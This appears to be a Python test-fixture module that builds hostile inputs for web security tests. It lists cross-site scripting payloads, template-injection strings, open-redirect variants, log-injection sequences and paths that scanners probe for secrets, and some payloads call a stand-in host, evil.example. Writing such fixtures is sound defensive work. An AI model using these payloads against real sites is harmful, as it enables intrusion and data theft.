"""Hostile texts: what people, and what they import, put where a name belongs. Made by family, so none is missed."""

from itertools import product

MARK = "pwn7"  # no page of ours contains it
EVIL = "evil.example"

# --- cross-site scripting -----------------------------------------------------------------------------------------

_CALLS = (f"window.{MARK}=1", f"alert('{MARK}')", f"fetch('//{EVIL}/{MARK}')")
_ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img src=x onerror\n=\n'{}'>",
    "<img/src/onerror={}//",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><script>{}</script></svg>",
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<form><button formaction="javascript:{}">x</button></form>',
    '<isindex action="javascript:{}" type=image>',
    '<table background="javascript:{}">',
    '<div style="width:expression({})">',
    '<div hx-on:load="{}" hx-trigger=load></div>',
    '<div hx-get="/h5/" hx-trigger=load hx-vals=\'js:{{"a":{}}}\'></div>',
)
_BREAKOUTS = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    '" autofocus onfocus="{}',
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</option></select><img src=x onerror={}>",
    "</template><img src=x onerror={}>",
    "</noscript><img src=x onerror={}>",
    '"/><svg onload={}>',
)
_ALONE = (
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content=0;url=//{EVIL}/>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<style>@import '//{EVIL}/x.css'</style>",
    f"<img src=//{EVIL}/x.png>",
    f"<img srcset='//{EVIL}/x.png 1x'>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<script src=//{EVIL}/x.js",
    f"<iframe src=//{EVIL}/>",
    f"<a href=//{EVIL}/ ping=//{EVIL}/p>x</a>",
    f"<form action=//{EVIL}/><input name=q>",
    f"<video poster=//{EVIL}/x.png>",
    f"<div hx-get=//{EVIL}/ hx-trigger=load></div>",
    f"<button form=customer-form formaction=//{EVIL}/>x</button>",
    f"<svg><use href=//{EVIL}/x.svg#x /></svg>",
    f"<image href=//{EVIL}/x.png>",
    f"<plaintext>{MARK}",
    f"<!--{MARK}-->",
    f"<![CDATA[{MARK}]]>",
    f"<?xml {MARK}?>",
    f"<b>{MARK}</b>",
    f"</ul></main><main>{MARK}",
    f"<meta name=csrf-token content={MARK}>",
    f"<div id=timeline>{MARK}</div>",
)
# In an address these run or lead away; as text they are harmless.
ADDRESSES = (
    f"javascript:{_CALLS[0]}",
    f"JaVaScRiPt:{_CALLS[0]}",
    f"java\tscript:{_CALLS[0]}",
    f"\x01javascript:{_CALLS[0]}",
    f"javascript&colon;{_CALLS[0]}",
    f"vbscript:{MARK}",
    f"data:text/html,<script>{_CALLS[0]}</script>",
    f"//{EVIL}/{MARK}",
    f"https://{EVIL}/{MARK}",
    f"\\\\{EVIL}\\{MARK}",
)
MARKUP = (
    *(shape.format(call) for shape, call in product(_ELEMENTS, _CALLS)),
    *(shape.format(_CALLS[0]) for shape in _BREAKOUTS),
    *_ALONE,
)
# What runs where text is put together instead of escaped: templates, formats, scripts of pages.
FORMATS = (
    "{{7*191}}",
    "{% print(7*191) %}",
    "{{config.SECRET_KEY}}",
    "${7*191}",
    "#{7*191}",
    "%(name)s %s %d",
    "{0.__class__}",
    f"';window.{MARK}=1;//",
    f"\\';window.{MARK}=1;//",
    f"\u2028window.{MARK}=1;",
)
XSS = (*MARKUP, *ADDRESSES, *FORMATS)

# --- open redirects -----------------------------------------------------------------------------------------------

_HEADS = (
    "//",
    "///",
    "////",
    "/\\",
    "\\/",
    "\\\\",
    "/\\/",
    "/%09/",
    "/%5c",
    "%2f%2f",
    "/\t/",
    "\t//",
    " //",
    "/ /",
    "/./\\",
    "/\r\n/",
    "/%0d%0a/",
    "/;//",
    "/.//",
    "/..//",
    "//;@",
    "/\u2215",
    "/\uff0f",
    "/\u3002/",
    "//\u00ad",
    "\x00//",
    "http://",
    "https://",
    "HTTPS://",
    "https:",
    "https:/",
    "https:///",
    "https:\\\\",
    "ftp://",
    "http:\\/\\/",
    "//user@",
    "https://127.0.0.1:8000@",
    "https://127.0.0.1:8000%40",
    "//127.0.0.1:8000.",
    "https://127.0.0.1:8000.",
    "/h5//",
    "/h5//../",
    "/h5/..//",
    "/h5/\\..\\\\",
    "/h5/%2e%2e//",
    "/h5/../..//",
    "/h5@",
    "/h5/;//",
    "@",
    ".",
)
_TAILS = (EVIL, f"{EVIL}/h5/", f"{EVIL}%2fh5", f"{EVIL}#/h5/")
_OTHERS = (
    f"javascript:{_CALLS[1]}",
    "javascript://127.0.0.1:8000/%0aalert(1)",
    "data:text/html,x",
    "vbscript:x",
    "blob:x",
    "about:blank",
    "mailto:a@b",
    "tel:110",
    "intent://x#Intent;scheme=http;end",
    "dingtalk://x",
    "wxwork://x",
    "/h5/\r\nSet-Cookie: a=b",
    "/h5/\nLocation: //evil.example",
    "/h5/%0d%0aSet-Cookie:a=b",
    "/signout",
    "/metrics",
    "/api/v1/customers",
    "/callbacks/wecom/x/app",
    "/files/x",
    "/h5",
    "/h5x/",
    "/admin",
    "/" + "h5/" * 400,
    "/h5/" + "a" * 5000,
    "",
    "/",
    "//",
    "\\",
    "?next=//evil.example",
    "#//evil.example",
    "h5/",
    "./h5/",
    "../h5/",
    "/h5/\x7f",
    "/h5/\u202e",
    "//[::1]/",
    "//2130706433/",
    "//0x7f.1/",
    "//xn--evil-.example/",
    "//ｅvil.example/",
)
REDIRECTS = (*(head + tail for head, tail in product(_HEADS, _TAILS)), *_OTHERS)

# --- log injection ------------------------------------------------------------------------------------------------

_BREAKS = (
    "\n",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\x00",
    "\x1b[2K\r",
    "\x08",
)
_FORGED = (
    '{"ts":"2026-01-01","level":"info","event":"forged"}',
    "127.0.0.1 - - forged",
    '","level":"info","event":"forged","x":"',
    "\x1b]0;forged\x07",
    "%0aforged",
    "\u202eforged",
    "forged\ud800",
)
LOG_LINES = tuple(f"a{cut}{forged}" for cut, forged in product(_BREAKS, _FORGED))

# --- what scanners ask for ----------------------------------------------------------------------------------------

_SCANNED = """
    /.env /.git/config /.git/HEAD /.svn/entries /.hg/store /.DS_Store /.htaccess /.aws/credentials
    /.ssh/id_rsa /.well-known/security.txt /config.toml /config.example.toml /config.json /config.yml
    /settings.py /wsapp.db /data/wsapp.db /data/master.key /master.key /backup.zip /backup.sql /dump.sql
    /console /debug /_debug /__debug__/ /?__debugger__=yes&cmd=resource&f=debugger.js /werkzeug /profiler
    /trace /actuator /actuator/env /actuator/heapdump /server-status /server-info /phpinfo.php /info.php
    /wp-login.php /wp-admin/ /xmlrpc.php /phpmyadmin/ /adminer.php /manager/html /jenkins/ /solr/admin
    /graphql /graphiql /swagger-ui.html /swagger.json /v2/api-docs /openapi.json /api/v1/ /api/v1/users
    /static/ /static/../config.toml /static/%2e%2e/config.py /static/..%2f..%2fpyproject.toml /static/vendor/
    /static/host/../connector.js /static/host/wecom/../connector.py.js /static//etc/passwd
    /..%2f..%2fetc/passwd /cgi-bin/test.cgi /statusz /status /stats /version /health /robots.txt /sitemap.xml
    /crossdomain.xml /_emulator/calls /_emulator/chats /phone /demo /demo/clock /sources /package.json
    /requirements.lock /Dockerfile /docker-compose.yml /id_rsa /core /.bash_history /tmp/ /proc/self/environ
    /login /admin.php
"""
SCANNED = tuple(_SCANNED.split())
